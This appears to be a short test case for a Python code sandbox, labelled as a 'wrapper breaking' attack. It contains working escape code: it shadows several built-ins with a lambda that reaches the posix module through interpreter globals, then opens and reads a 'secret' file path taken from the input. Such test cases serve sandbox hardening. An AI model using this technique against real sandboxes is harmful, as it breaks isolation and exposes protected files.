# class: wrapper breaking
# technique: a built-in shadowed in the task's globals is used by nothing that is trusted
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
global len, str, dict, list, isinstance
len = str = dict = list = isinstance = lambda *a: quit.__init__.__globals__["sys"].modules["posix"]
reached = len([])
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
